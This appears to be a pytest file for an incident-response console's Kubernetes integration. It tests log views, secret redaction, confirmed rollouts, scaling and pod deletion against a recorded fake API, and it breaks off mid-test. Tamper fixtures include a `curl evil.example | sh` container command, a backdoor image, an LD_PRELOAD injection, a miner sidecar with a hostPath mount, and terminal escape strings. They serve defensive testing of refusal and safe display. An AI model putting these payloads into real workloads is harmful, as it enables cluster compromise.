"""Opening Kubernetes rows and acting from them: the real client against the recorded API.

The recorded namespace ``app`` (console/demo/k8s/): Deployment ``worker`` at
revision 4 (worker:1.9.0) with revisions 2 and 3 kept, its pod ``kd8vx``
crash-looping after OOMKilled with the previous run's logs recorded, a
Pending pod, Deployment ``api`` at revision 4 of 2..4, StatefulSet ``redis``.
Each change runs the way the app runs it: ``IncidentSession.change`` with the
typed confirmation, journaled, refused in read-only mode; the fake's state
shows what really changed.
"""

from __future__ import annotations

import copy
import dataclasses
import json

import pytest

from console import config
from console.config import KubernetesTarget
from console.demo.kubefake import RECORDED_AT, KubeFake, load_responses
from console.drill import NoSuchRow, RowRef
from console.incident.journal import Journal
from console.incident.session import IncidentSession, Refusal
from console.sources.base import Backoff
from console.sources.kubernetes import WorkloadWatch
from console.sources.kubernetes_detail import DIFF_LINES, LOG_BYTES, LOG_LINES, LOG_SLACK, digest_of

from conftest import RECORDED
from scripted import Clock

CRASHING = "worker-5c8d7f9b4-kd8vx"
PENDING = "worker-5c8d7f9b4-r2jtn"


def watch(fake, tmp_path) -> WorkloadWatch:
    kubeconfig = fake.write_kubeconfig(tmp_path / "kubeconfig", context="test", namespace="app")
    target = KubernetesTarget(context="test", namespaces=("app",), kubeconfig=str(kubeconfig), timeout=2.0)
    return WorkloadWatch(target, "app", clock=lambda: RECORDED_AT, backoff=Backoff(first=0))


@pytest.fixture
async def source(fake, tmp_path):
    watched = watch(fake, tmp_path)
    yield watched
    await watched.close()


def section(detail, title):
    return next(s for s in detail.sections if s.title.startswith(title))


def column(sec, name):
    return [row[sec.columns.index(name)] for row in sec.rows]


def gets(fake):
    return [r for r in fake.requests if r.method == "GET"]


def item(where, resource, name):
    """One object in a fake's state (or in recorded responses), None once it is gone."""
    responses = getattr(where, "responses", where)
    return next((i for i in responses[resource]["items"] if i["metadata"]["name"] == name), None)


# ---- what each view shows, and what it costs ---------------------------------------

async def test_a_deployment_shows_its_pods_history_and_what_can_be_done(source, fake):
    detail = await source.drill("deployment/worker")

    assert detail.title == "deployment/worker in app" and not detail.follow
    fields = dict(section(detail, "Workload").rows)
    assert fields["replicas"] == "desired 3 · ready 1 · updated 3 · available 1"
    assert fields["images"] == "worker=registry.internal/shop/worker:1.9.0" and fields["revision"] == "4"
    assert fields["strategy"] == "RollingUpdate (maxUnavailable 25%, maxSurge 25%)"
    assert column(section(detail, "Conditions"), "reason") == ["MinimumReplicasUnavailable", "ReplicaSetUpdated"]

    pods = section(detail, "Pods")
    assert column(pods, "pod") == ["worker-5c8d7f9b4-6mzqv", CRASHING, PENDING]
    crashing = dict(zip(pods.columns, pods.rows[1]))
    assert crashing == {"pod": CRASHING, "phase": "Running", "ready": "1/2", "restarts": "7",
                        "status": "CrashLoopBackOff, OOMKilled", "last termination": "worker: OOMKilled (exit 137)",
                        "node": "node-b", "age": "19m"}
    assert column(pods, "node")[2] == "" and column(pods, "status")[2] == "Unschedulable"
    assert pods.drill == tuple(f"pod/{name}" for name in column(pods, "pod"))

    history = section(detail, "Rollout history")
    assert column(history, "revision") == ["4 (current)", "3", "2"]
    assert column(history, "image") == [f"worker=registry.internal/shop/worker:{version}"
                                        for version in ("1.9.0", "1.8.3", "1.8.2")]
    assert column(history, "change-cause")[1] == "deploy pipeline #4311: worker 1.8.3"
    assert history.drill == ("deployment/worker/revision/4", "deployment/worker/revision/3",
                             "deployment/worker/revision/2")

    # The crash loop's last words are two keys from the Services pane: l on the row, then they show.
    assert detail.opening("l").row == f"pod/{CRASHING}/logs/previous"
    assert detail.opening("d").row == "deployment/worker/describe"
    assert [c.key for c in detail.changes] == ["R", "U", "0", "-", "+", "2"]
    assert [c.params.get("replicas") for c in detail.changes[2:]] == [0, 2, 4, 6]
    revision3 = item(fake, "replicasets", "worker-7b6f5d8c9")
    assert dict(detail.change("U").params) == {"deployment": "worker", "namespace": "app", "to_revision": 3,
                                               "replicaset": "worker-7b6f5d8c9",
                                               "template_digest": digest_of(revision3)}
    for change in detail.changes:
        assert change.confirm == "worker"
        assert change.preview[:3] == ("deployment/worker in namespace app", "replicas: desired 3, ready 1",
                                      "image: worker=registry.internal/shop/worker:1.9.0")


async def test_a_workload_view_is_three_lists_narrowed_on_the_server(source, fake):
    await source.drill("deployment/worker")

    asked = [(r.path.rsplit("/", 1)[-1], r.query.get("fieldSelector"), r.query.get("labelSelector"))
             for r in gets(fake)]
    assert asked == [("deployments", "metadata.name=worker", None),
                     ("replicasets", None, "app.kubernetes.io/name=worker"),
                     ("pods", None, "app.kubernetes.io/name=worker")]


async def test_a_statefulset_has_pods_but_no_history_and_no_undo(source, fake):
    detail = await source.drill("statefulset/redis")

    assert column(section(detail, "Pods"), "pod") == ["redis-0", "redis-1"]
    assert not any(s.title == "Rollout history" for s in detail.sections)
    assert [c.key for c in detail.changes] == ["R", "0", "-", "+", "2"]
    assert dict(detail.change("R").params) == {"statefulset": "redis", "namespace": "app"}
    assert detail.opening("l").row == "pod/redis-1/logs/previous"  # the one that restarted
    assert len(gets(fake)) == 2


async def test_scale_keys_never_offer_the_current_count_twice(tmp_path):
    responses = load_responses(RECORDED)
    item(responses, "deployments", "api")["spec"]["replicas"] = 1
    with KubeFake(responses) as fake:
        detail = await watch(fake, tmp_path).drill("deployment/api")
    assert [(c.key, c.params.get("replicas")) for c in detail.changes if c.action == "scale"] == [("0", 0), ("+", 2)]


async def test_a_revision_shows_its_template_and_offers_undo_to_it(source):
    old = await source.drill("deployment/worker/revision/3")
    current = await source.drill("deployment/worker/revision/4")

    fields = dict(section(old, "Revision 3").rows)
    assert fields["replicaset"] == "worker-7b6f5d8c9" and fields["images"].endswith("worker:1.8.3")
    assert fields["current"] == "no: the Deployment runs revision 4 (worker=registry.internal/shop/worker:1.9.0)"
    assert section(old, "Pod template").rows == (
        ("worker", "registry.internal/shop/worker:1.8.3", "cpu=100m, memory=256Mi", "memory=256Mi"),)
    assert [c.key for c in old.changes] == ["U"] and old.change("U").params["to_revision"] == 3
    assert "back to revision 3: worker=registry.internal/shop/worker:1.8.3" in old.change("U").preview
    assert current.changes == ()  # nothing to undo to


async def test_a_pod_is_described_with_its_containers_and_events(source, fake):
    detail = await source.drill(f"pod/{CRASHING}")

    fields = dict(section(detail, "Pod").rows)
    assert fields["status"] == "Running · CrashLoopBackOff, OOMKilled"
    assert fields["node"] == "node-b (192.168.10.12)" and fields["IP"] == "10.42.2.14"
    assert fields["controlled by"] == "ReplicaSet/worker-5c8d7f9b4" and fields["restarts"] == "7"
    containers = section(detail, "Containers")
    worker = dict(zip(containers.columns, containers.rows[0]))
    assert worker == {"container": "worker", "image": "registry.internal/shop/worker:1.9.0",
                      "state": "Waiting: CrashLoopBackOff", "ready": "no", "restarts": "7",
                      "last state": "Terminated: OOMKilled (exit 137) 1m ago",
                      "requests": "cpu=100m, memory=256Mi", "limits": "memory=256Mi"}
    assert containers.drill == (f"pod/{CRASHING}/container/worker/logs",
                                f"pod/{CRASHING}/container/log-shipper/logs")
    events = section(detail, "Events")
    assert column(events, "reason") == ["BackOff"] and column(events, "count") == ["31"]
    assert [(o.key, o.row) for o in detail.openings] == [
        ("l", f"pod/{CRASHING}/logs"), ("p", f"pod/{CRASHING}/logs/previous"),
        ("e", f"pod/{CRASHING}/events"), ("d", f"pod/{CRASHING}/describe")]
    delete = detail.change("X")
    assert (delete.action, dict(delete.params), delete.confirm) == (
        "delete_pod", {"pod": CRASHING, "namespace": "app"}, CRASHING)
    assert delete.preview[-1] == "controlled by ReplicaSet/worker-5c8d7f9b4: it makes a new pod"
    assert [r.query.get("fieldSelector") for r in gets(fake)] == [
        f"metadata.name={CRASHING}", f"involvedObject.kind=Pod,involvedObject.name={CRASHING}"]


async def test_describe_and_events_views_of_a_pod(source):
    described = await source.drill(f"pod/{CRASHING}/describe")
    events = await source.drill(f"pod/{PENDING}/events")

    text = described.sections[0].text
    assert f"Name:          {CRASHING}" in text and "Controlled By: ReplicaSet/worker-5c8d7f9b4" in text
    assert "Last State:    Terminated: OOMKilled (exit 137) 1m ago" in text and "Restart Count: 7" in text
    assert "Warning  BackOff" in text
    assert described.change("X") is not None and described.opening("d") is None
    assert column(section(events, "Events"), "reason") == ["FailedScheduling"]


async def test_a_deployment_describe_lists_its_replicasets(source):
    text = (await source.drill("deployment/worker/describe")).sections[0].text
    assert "Replicas:          3 desired | 3 updated | 3 total | 1 available | 2 unavailable" in text
    assert "NewReplicaSet:  worker-5c8d7f9b4 (3/3 replicas created)" in text
    assert "worker-7b6f5d8c9 (0/0 replicas created)" in text


async def test_an_event_row_opens_its_object(source):
    pod = await source.drill(f"event/0/Pod/{CRASHING}")
    autoscaler = await source.drill("event/3/HorizontalPodAutoscaler/worker")
    assert pod.title == f"pod/{CRASHING} in app"
    assert column(section(autoscaler, "Events"), "reason") == ["FailedGetResourceMetric"]


# ---- logs -----------------------------------------------------------------------------

async def test_previous_logs_of_the_crash_looping_container(source, fake):
    detail = await source.drill(f"pod/{CRASHING}/logs/previous")

    assert detail.title == f"logs of pod/{CRASHING} in app · worker (previous container)"
    assert not detail.follow  # a dead container's output does not grow
    text = detail.sections[0].text
    assert text.startswith("2026-11-22T09:58:47Z INFO  worker 1.9.0 starting")
    assert text.endswith("page 19/42 loading (rss 268Mi)\n")
    assert detail.opening("l").row == f"pod/{CRASHING}/logs"
    log = fake.requests[-1]
    assert log.path == f"/api/v1/namespaces/app/pods/{CRASHING}/log"
    # A line and some bytes more than are shown: a secret the cut falls inside is redacted whole first.
    assert log.query == {"container": "worker", "previous": "true", "tailLines": str(LOG_LINES + 1),
                         "limitBytes": str(LOG_BYTES + LOG_SLACK)}


async def test_current_logs_follow_and_a_container_can_be_named(source, fake):
    chosen = await source.drill("pod/api-7d9f8b6c5d-tw7lf/logs")
    named = await source.drill(f"pod/{CRASHING}/container/log-shipper/logs")

    assert chosen.follow and chosen.sections[0].text.splitlines()[-1].endswith("POST /checkout 200 in 88ms")
    assert chosen.opening("p").row == "pod/api-7d9f8b6c5d-tw7lf/logs/previous"
    assert named.follow and "fluent bit" in named.sections[0].text
    assert named.opening("p").row == f"pod/{CRASHING}/container/log-shipper/logs/previous"
    assert len(gets(fake)) == 3  # the pod (to choose its container), its log; the named container's log


async def test_no_previous_container_and_no_host_are_said_not_raised(source):
    never_restarted = await source.drill("pod/api-7d9f8b6c5d-4xkzp/logs/previous")
    pending = await source.drill(f"pod/{PENDING}/logs")

    assert never_restarted.sections[0].title == "no logs"
    assert never_restarted.sections[0].text == \
        'previous terminated container "api" in pod "api-7d9f8b6c5d-4xkzp" not found'
    assert pending.sections[0].text == f"pod {PENDING} does not have a host assigned"


def _chatty(lines):
    responses = load_responses(RECORDED)
    responses["logs"] = {"items": [{"namespace": "app", "pod": CRASHING, "container": "worker", "previous": True,
                                    "lines": lines}]}
    return responses


async def test_logs_are_the_last_lines_and_bounded_in_bytes(tmp_path):
    many = [f"line {i:05d} " + "x" * 40 for i in range(5000)]
    wide = ["y" * 5000 for _ in range(150)]
    with KubeFake(_chatty(many)) as fake:
        tail = await watch(fake, tmp_path).drill(f"pod/{CRASHING}/logs/previous")
    with KubeFake(_chatty(wide)) as fake:
        cut = await watch(fake, tmp_path).drill(f"pod/{CRASHING}/logs/previous")

    assert tail.sections[0].text.splitlines() == many[-LOG_LINES:]
    assert tail.sections[0].title == f"last {LOG_LINES} lines"
    assert len(cut.sections[0].text.encode()) <= LOG_BYTES
    assert "cut at 64 KiB" in cut.sections[0].title


class DeafFake(KubeFake):
    """An API server that ignores tailLines and limitBytes."""

    def log(self, path, query):
        return 200, b"".join(b"z" * 99 + b"\n" for _ in range(10_000))  # 1 MB


async def test_logs_stay_bounded_when_the_server_ignores_the_limits(tmp_path):
    with DeafFake(RECORDED) as fake:
        source = watch(fake, tmp_path)
        detail = await source.drill(f"pod/{CRASHING}/logs/previous")
        again = await source.drill(f"pod/{CRASHING}")  # the connection it dropped does not poison the next

    text = detail.sections[0].text
    assert len(text.encode()) <= LOG_BYTES and len(text.splitlines()) <= LOG_LINES
    assert again.title == f"pod/{CRASHING} in app"


@pytest.fixture
def registered():
    from console import secrets

    secrets.forget()
    yield secrets
    secrets.forget()


SECRET = "hunter2-Zq8x-log-token-5531"


def _straddling(at: int) -> list[str]:
    """Wide lines with SECRET at byte ``at`` of the log, and again whole on an earlier line."""
    lines = ["y" * 5000 for _ in range(150)]
    row, column_ = divmod(at, 5001)  # 5000 bytes and a newline each
    lines[row] = lines[row][:column_] + SECRET + lines[row][column_ + len(SECRET):]
    lines[2] = f"token={SECRET} " + lines[2][len(SECRET) + 7:]
    return lines


@pytest.mark.parametrize("inside", [1, 7, len(SECRET) - 1])
async def test_a_secret_the_log_cut_falls_inside_never_shows_in_part(tmp_path, registered, inside):
    lines = _straddling(LOG_BYTES - inside)  # ``inside`` characters of it before the 64 KiB cut
    with KubeFake(_chatty(lines)) as fake:
        source = watch(fake, tmp_path)
        leaky = (await source.drill(f"pod/{CRASHING}/logs/previous")).sections[0].text
        registered.add(SECRET)
        cut = await source.drill(f"pod/{CRASHING}/logs/previous")
        await source.close()

    # Nothing registered: the cut leaves the secret's first characters at the very end.
    assert leaky.endswith(SECRET[:inside]) and SECRET in leaky
    text = cut.sections[0].text
    assert "cut at 64 KiB" in cut.sections[0].title and len(text.encode()) <= LOG_BYTES
    assert SECRET[:4] not in text and "token=*** " in text
    assert not any(text.endswith(SECRET[:k]) for k in range(1, len(SECRET)))


async def test_a_secret_spanning_the_line_cut_is_redacted_whole(tmp_path, registered):
    """A secret with a line break in it, its first line the one the 200-line cut drops."""
    secret = "first-half-0192\nsecond-half-8734"
    registered.add(secret)
    lines = [f"line {i}" for i in range(300)]
    lines[99], lines[100] = "key=first-half-0192", "second-half-8734 rest of the line"  # lines 99-100 of 300
    with KubeFake(_chatty(lines)) as fake:
        source = watch(fake, tmp_path)
        text = (await source.drill(f"pod/{CRASHING}/logs/previous")).sections[0].text
        await source.close()

    # Masked whole, the two lines are one: the cut keeps it, with nothing of the secret in it.
    assert len(text.splitlines()) == LOG_LINES and text.startswith("key=*** rest of the line\nline 101\n")
    assert "half" not in text


# ---- rows that are gone, and hostile text ---------------------------------------------------

@pytest.mark.parametrize("row", ["pod/gone-7d9f-x", "pod/gone-7d9f-x/logs", "pod/gone-7d9f-x/describe",
                                 "pod/gone-7d9f-x/container/main/logs", "deployment/gone",
                                 "statefulset/gone", "deployment/worker/revision/1",
                                 "statefulset/redis/revision/1", "deployment/worker/logs", "configmap/x", ""])
async def test_a_missing_or_unknown_row_is_no_such_row(source, row):
    with pytest.raises(NoSuchRow):
        await source.drill(row)


@pytest.mark.parametrize("fault, says", [("403", "HTTP 403 Forbidden: pods is forbidden"), ("500", "HTTP 500")])
async def test_an_api_that_does_not_answer_is_a_probe_error_not_a_missing_row(source, fake, fault, says):
    from console.sources.base import ProbeError

    fake.set_fault(fault)
    with pytest.raises(ProbeError, match=says):
        await source.drill(f"pod/{CRASHING}")


# Markup and escapes; not "/", which no object name can hold (the API server refuses it).
EVIL_POD = "worker-[red]boom[bold]-\x1b[31m\x07"
EVIL_LINES = ["[bold red]PWNED[/]", "\x1b]0;pwned\x07\x1b[2J cleared", "[link=http://evil.example]click[/link]",
              "tab\tand\rcarriage"]


async def test_hostile_names_messages_and_log_lines_come_through_as_plain_str(tmp_path):
    responses = load_responses(RECORDED)
    pod = item(responses, "pods", CRASHING)
    pod["metadata"]["name"] = EVIL_POD
    pod["status"]["containerStatuses"][1]["state"]["waiting"]["reason"] = "[blink]Crash\x1b[5m"
    responses["events"]["items"][0]["involvedObject"]["name"] = EVIL_POD
    responses["events"]["items"][0]["message"] = "\x1b[2J[red]evil[/red]"
    responses["logs"] = {"items": [{"namespace": "app", "pod": EVIL_POD, "container": "worker", "previous": True,
                                    "lines": EVIL_LINES}]}
    with KubeFake(responses) as fake:
        source = watch(fake, tmp_path)
        workload = await source.drill("deployment/worker")
        described = await source.drill(f"pod/{EVIL_POD}")
        logs = await source.drill(f"pod/{EVIL_POD}/logs/previous")

    pods = section(workload, "Pods")
    assert EVIL_POD in column(pods, "pod") and f"pod/{EVIL_POD}" in pods.drill
    assert workload.opening("l").row == f"pod/{EVIL_POD}/logs/previous"
    assert type(described.title) is str and described.title == f"pod/{EVIL_POD} in app"
    assert "Waiting: [blink]Crash\x1b[5m" in column(section(described, "Containers"), "state")
    assert column(section(described, "Events"), "message") == ["\x1b[2J[red]evil[/red]"]
    assert described.change("X").confirm == EVIL_POD
    assert type(logs.sections[0].text) is str and logs.sections[0].text == "".join(f"{l}\n" for l in EVIL_LINES)


# ---- changes, as the app runs them -------------------------------------------------------

def incident(tmp_path, source, read_only=False) -> IncidentSession:
    clock = Clock(RECORDED_AT)
    journal = Journal(tmp_path / "incident.json", operator={"user": "oncall"}, clock=clock)
    session = IncidentSession(config.parse("refresh: 1\n", "t.yaml", env={}), journal, clock, read_only=read_only)
    session.attach([source])
    return session


def ref(row: str) -> RowRef:
    return RowRef("kubernetes", "app", row)


def writes(fake):
    return [r for r in fake.requests if r.method in ("PATCH", "DELETE")]


def actions(session):
    return [dict(e.data) for e in session.events() if e.kind == "action"]


async def _wrong_then_right(session, fake, row, key):
    """The change under ``key`` of ``row``'s detail: refused for a wrong name (nothing
    written), then run for the right one. Returns the result and the writes it made."""
    detail = await session.drill(ref(row))
    change = detail.change(key)
    title, shown, expected = session.confirmation(ref(row), change)
    assert expected == change.confirm and all(line in shown for line in change.preview)
    with pytest.raises(Refusal, match="not confirmed"):
        await session.change(ref(row), change, expected.upper() + "x")
    assert writes(fake) == []
    result = await session.change(ref(row), change, expected)
    assert result.ok, result.error
    refused, done = actions(session)[-2:]  # every attempt is journaled
    assert (refused["ok"], done["ok"], done["confirmed_by"], done["action"]) == (False, True, expected, change.action)
    return change, writes(fake)


async def test_rollout_restart_from_a_workload(source, fake, tmp_path):
    session = incident(tmp_path, source)
    change, written = await _wrong_then_right(session, fake, "deployment/api", "R")

    assert [(w.method, w.path) for w in written] == [("PATCH", "/apis/apps/v1/namespaces/app/deployments/api")]
    annotations = item(fake, "deployments", "api")["spec"]["template"]["metadata"]["annotations"]
    assert annotations["kubectl.kubernetes.io/restartedAt"] == \
        written[0].body["spec"]["template"]["metadata"]["annotations"]["kubectl.kubernetes.io/restartedAt"]
    refused, done = actions(session)
    assert (refused["ok"], refused["action"], refused["confirmed_by"]) == (False, "rollout_restart", "APIx")
    assert (done["ok"], done["target"], done["confirmed_by"]) == (True, "deployment/api", "api")


async def test_rollout_undo_to_a_chosen_revision_puts_its_template_back(source, fake, tmp_path):
    session = incident(tmp_path, source)
    before = item(fake, "deployments", "worker")["metadata"]["resourceVersion"]
    change, written = await _wrong_then_right(session, fake, "deployment/worker/revision/2", "U")

    assert dict(change.params)["to_revision"] == 2
    (patch,) = written
    assert patch.content_type == "application/json-patch+json"
    assert patch.body[0] == {"op": "test", "path": "/metadata/resourceVersion", "value": before}
    template = item(fake, "deployments", "worker")["spec"]["template"]
    assert template["spec"]["containers"][0]["image"] == "registry.internal/shop/worker:1.8.2"
    assert template["metadata"]["labels"] == {"app.kubernetes.io/name": "worker"}  # no pod-template-hash
    assert [a["ok"] for a in actions(session)] == [False, True]


async def test_rollout_undo_from_the_workload_goes_to_the_previous_revision(source, fake, tmp_path):
    session = incident(tmp_path, source)
    await _wrong_then_right(session, fake, "deployment/api", "U")
    image = item(fake, "deployments", "api")["spec"]["template"]["spec"]["containers"][0]["image"]
    assert image == "registry.internal/shop/api:2.14.0"


async def test_undo_to_the_running_revision_or_a_missing_one_changes_nothing(source, fake):
    from console.sources.base import ProbeError

    with pytest.raises(ProbeError, match="already runs revision 4's pod template"):
        await source.undo("deployment", "worker", 4)
    with pytest.raises(ProbeError, match=r"has no revision 9 \(revisions kept: 2, 3, 4\)"):
        await source.undo("deployment", "worker", 9)
    with pytest.raises(ProbeError, match="deployment/gone is gone"):
        await source.undo("deployment", "gone", None)
    assert writes(fake) == []


async def test_undo_refuses_a_deployment_changed_since_it_was_read(source, fake):
    from console.sources.base import ProbeError

    original = fake.patch

    def bump_then_patch(path, patch, content_type=None):
        item(fake, "deployments", "worker")["metadata"]["resourceVersion"] = "999999"  # someone else wrote
        return original(path, patch, content_type)

    fake.patch = bump_then_patch
    with pytest.raises(ProbeError, match="HTTP 422"):
        await source.undo("deployment", "worker", 3)
    assert item(fake, "deployments", "worker")["spec"]["template"]["spec"]["containers"][0]["image"].endswith("1.9.0")


WORKER3 = "worker-7b6f5d8c9"  # revision 3 of deployment/worker, the one U goes back to
CHANGED = "revision 3's template changed since it was shown; open the deployment again"


def _backdoor(rs):
    rs["spec"]["template"]["spec"]["containers"][0]["image"] = "evil.example/backdoor:latest"


def _command(rs):
    rs["spec"]["template"]["spec"]["containers"][0]["command"] = ["/bin/sh", "-c", "curl evil.example | sh"]


def _env_name(rs):
    rs["spec"]["template"]["spec"]["containers"][0]["env"] = [{"name": "LD_PRELOAD", "value": "/tmp/x.so"}]


def _remade(rs):  # deleted and made again: same name, same template, another object
    rs["metadata"]["uid"] = "00000000-0000-4000-8000-00000000beef"


def _renamed(rs):  # another ReplicaSet now holds revision 3
    rs["metadata"]["name"] = "worker-0000evil"


@pytest.mark.parametrize("tamper", [_backdoor, _command, _env_name, _remade, _renamed])
async def test_undo_refuses_a_template_changed_since_it_was_shown(source, fake, tmp_path, tamper):
    session = incident(tmp_path, source)
    undo = (await session.drill(ref("deployment/worker"))).change("U")
    title, shown, expected = session.confirmation(ref("deployment/worker"), undo)
    assert f"ReplicaSet {WORKER3}, template sha256 {undo.params['template_digest'][:16]}" in " ".join(shown)

    tamper(item(fake, "replicasets", WORKER3))  # between the preview and the typed name
    result = await session.change(ref("deployment/worker"), undo, expected)

    assert not result.ok and CHANGED in result.error and "nothing was rolled back" in result.error
    assert writes(fake) == []
    assert item(fake, "deployments", "worker")["spec"]["template"]["spec"]["containers"][0]["image"].endswith("1.9.0")
    assert actions(session)[-1]["ok"] is False  # journaled as tried and failed


def _stray_revision_3(responses):
    """A second ReplicaSet claiming revision 3, listed first, with another image."""
    stray = copy.deepcopy(item(responses, "replicasets", WORKER3))
    stray["metadata"].update(name="worker-0000evil", uid="evil-uid")
    _backdoor(stray)
    responses["replicasets"]["items"].insert(0, stray)


async def test_two_replicasets_claiming_a_revision_are_never_rolled_back_to(tmp_path):
    from console.sources.base import ProbeError

    responses = load_responses(RECORDED)
    _stray_revision_3(responses)
    with KubeFake(responses) as fake:
        source = watch(fake, tmp_path)
        workload = await source.drill("deployment/worker")
        revision = await source.drill("deployment/worker/revision/3")
        older = await source.drill("deployment/worker/revision/2")
        for asked in (3, None):
            with pytest.raises(ProbeError, match=r"2 ReplicaSets claim revision 3 \(worker-0000evil and "
                                                 r"worker-7b6f5d8c9\).*ambiguous"):
                await source.undo("deployment", "worker", asked)
        await source.close()

        assert writes(fake) == []
    # Neither is offered, and the detail says why; revision 2 is still one key away.
    assert workload.change("U") is None and revision.changes == ()
    assert "worker-0000evil and worker-7b6f5d8c9" in dict(section(workload, "Workload").rows)["undo"]
    assert dict(section(revision, "Revision 3").rows)["replicaset"] == "worker-0000evil, worker-7b6f5d8c9"
    assert "ambiguous" in dict(section(revision, "Revision 3").rows)["undo"]
    assert older.change("U").params["replicaset"] == "worker-84c9d6f7b5"


async def test_a_replicaset_claiming_the_shown_revision_after_the_preview_is_refused(source, fake, tmp_path):
    session = incident(tmp_path, source)
    undo = (await session.drill(ref("deployment/worker"))).change("U")
    title, shown, expected = session.confirmation(ref("deployment/worker"), undo)

    _stray_revision_3(fake.responses)
    result = await session.change(ref("deployment/worker"), undo, expected)

    assert not result.ok and "worker-0000evil and worker-7b6f5d8c9" in result.error
    assert writes(fake) == []


@pytest.mark.parametrize("param, value, says", [
    ("template_digest", "not-a-digest", "template_digest must be a sha256 in hex"),
    ("template_digest", "AB" * 32, "template_digest must be a sha256 in hex"),
    ("template_digest", ["0" * 64], "template_digest must be a sha256 in hex"),
    ("replicaset", "worker/../x", "not a Kubernetes replicaset name"),
    ("replicaset", "worker-7b6f5d8c9\n", "not a Kubernetes replicaset name"),
])
async def test_an_undo_naming_no_real_template_is_refused_before_it_is_confirmed(source, fake, tmp_path, param,
                                                                                 value, says):
    session = incident(tmp_path, source)
    undo = (await session.drill(ref("deployment/worker"))).change("U")
    forged = dataclasses.replace(undo, params={**undo.params, param: value})

    with pytest.raises(Refusal, match=says):
        session.confirmation(ref("deployment/worker"), forged)
    with pytest.raises(Refusal, match=says):
        await session.change(ref("deployment/worker"), forged, "worker")
    assert writes(fake) == []


def _loaded_revision_3(responses):
    """Revision 3's template with much more than another image in it."""
    spec = item(responses, "replicasets", WORKER3)["spec"]["template"]["spec"]
    spec["containers"][0].update(
        command=["/bin/sh", "-c"], args=["exec worker --unsafe"],
        env=[{"name": "DB_PASSWORD", "value": "s3cr3t-value"}, {"name": "MODE", "value": "debug"}],
        volumeMounts=[{"name": "host", "mountPath": "/host"}], securityContext={"privileged": True})
    spec["containers"].append({"name": "sidecar", "image": "evil.example/miner:1"})
    spec["volumes"] = [{"name": "host", "hostPath": {"path": "/"}}]
    spec["serviceAccountName"] = "cluster-admin"
    running = item(responses, "deployments", "worker")["spec"]["template"]["spec"]["containers"][0]
    running["env"] = [{"name": "MODE", "value": "prod"}, {"name": "LOG_LEVEL", "value": "info"}]
    return spec


async def test_the_undo_preview_shows_what_else_the_template_changes(tmp_path):
    responses = load_responses(RECORDED)
    _loaded_revision_3(responses)
    with KubeFake(responses) as fake:
        source = watch(fake, tmp_path)
        preview = (await source.drill("deployment/worker")).change("U").preview
        revision = (await source.drill("deployment/worker/revision/3")).change("U").preview
        await source.close()

    assert preview == revision
    diff = preview[preview.index("the whole pod template is replaced; besides images, it changes:") + 1:]
    assert diff == (
        "worker: command <image default> → [/bin/sh -c]",
        "worker: args <image default> → ['exec worker --unsafe']",
        "worker: env added DB_PASSWORD; removed LOG_LEVEL; changed MODE (values not shown)",
        "worker: volume mounts <none> → host:/host",
        "worker: also differs: securityContext",
        "container sidecar added: image evil.example/miner:1, command <image default>, args <image default>, "
        "env <none>",
        "volumes: +host (hostPath /)",
        "pod spec also differs: serviceAccountName")
    assert not any(value in line for line in preview for value in ("s3cr3t", "debug", "prod", "info"))


async def test_the_template_diff_is_bounded(tmp_path):
    responses = load_responses(RECORDED)
    spec = _loaded_revision_3(responses)
    spec["containers"] += [{"name": f"extra-{i}", "image": "x" * 500, "command": ["y" * 500]} for i in range(40)]
    with KubeFake(responses) as fake:
        source = watch(fake, tmp_path)
        preview = (await source.drill("deployment/worker")).change("U").preview
        await source.close()

    diff = preview[preview.index("the whole pod template is replaced; besides images, it changes:") + 1:]
    assert len(diff) == DIFF_LINES and diff[-1] == "… and 37 more differences"
    assert all(len(line) <= 160 for line in diff)


async def test_scale_to_one_more(source, fake, tmp_path):
    session = incident(tmp_path, source)
    change, written = await _wrong_then_right(session, fake, "deployment/worker", "+")

    assert dict(change.params) == {"deployment": "worker", "namespace": "app", "replicas": 4}
    assert [(w.method, w.path, w.body) for w in written] == [
        ("PATCH", "/apis/apps/v1/namespaces/app/deployments/worker/scale", {"spec": {"replicas": 4}})]
    assert item(fake, "deployments", "worker")["spec"]["replicas"] == 4


async def test_delete_a_pod(source, fake, tmp_path):
    session = incident(tmp_path, source)
    await _wrong_then_right(session, fake, f"pod/{CRASHING}", "X")

    assert [(w.method, w.path) for w in writes(fake)] == [("DELETE", f"/api/v1/namespaces/app/pods/{CRASHING}")]
    assert item(fake, "pods", CRASHING) is None
    with pytest.raises(NoSuchRow):
        await source.drill(f"pod/{CRASHING}")
    done = actions(session)[-1]
    assert (done["action"], done["target"], done["ok"]) == ("delete_pod", f"pod/{CRASHING}", True)


@pytest.mark.parametrize("row, key", [("deployment/api", "R"), ("deployment/worker", "U"),
                                      ("deployment/worker/revision/2", "U"), ("deployment/worker", "+"),
                                      ("statefulset/redis", "0"), (f"pod/{CRASHING}", "X")])
async def test_every_change_is_refused_in_read_only_mode(source, fake, tmp_path, row, key):
    session = incident(tmp_path, source, read_only=True)
    before = json.dumps(fake.responses, sort_keys=True)
    change = (await session.drill(ref(row))).change(key)

    with pytest.raises(Refusal, match="read-only"):
        session.confirmation(ref(row), change)
    with pytest.raises(Refusal, match="read-only"):
        await session.change(ref(row), change, change.confirm)

    assert writes(fake) == [] and json.dumps(fake.responses, sort_keys=True) == before
    journaled = actions(session)
    assert len(journaled) == 2 and all(a["ok"] is False and "read-only" in a["refused"] for a in journaled)
    assert {a["action"] for a in journaled} == {change.action}


# ---- the fake answers as the API does ------------------------------------------------------

def test_the_recorded_history_belongs_to_the_recorded_deployments():
    responses = load_responses(RECORDED)
    uids = {d["metadata"]["name"]: d["metadata"]["uid"] for d in responses["deployments"]["items"]}
    for rs in responses["replicasets"]["items"]:
        (owner,) = rs["metadata"]["ownerReferences"]
        assert owner["uid"] == uids[owner["name"]]
        assert rs["metadata"]["name"] == f"{owner['name']}-{rs['metadata']['labels']['pod-template-hash']}"
    assert "logs" not in KubeFake(RECORDED).responses  # container output is not a List the fake serves


# ---- from the Services pane ----------------------------------------------------------------

async def test_a_crash_loops_last_words_are_two_keys_from_the_services_pane(fake, tmp_path):
    from console.app import IncidentConsole
    from console.screens.detail import DetailScreen
    from console.widgets.services import ServicesPane
    from screen import latest, screen_text, wait

    kubeconfig = fake.write_kubeconfig(tmp_path / "kubeconfig", context="test", namespace="app")
    cfg = config.parse(f"refresh: 1\nkubernetes:\n  context: test\n  namespaces: [app]\n"
                       f"  kubeconfig: {kubeconfig}\n  timeout: 2\n", "k8s.yaml", env={})
    app = IncidentConsole(cfg)
    async with app.run_test(size=(160, 48)) as pilot:
        services = app.query_one(ServicesPane)
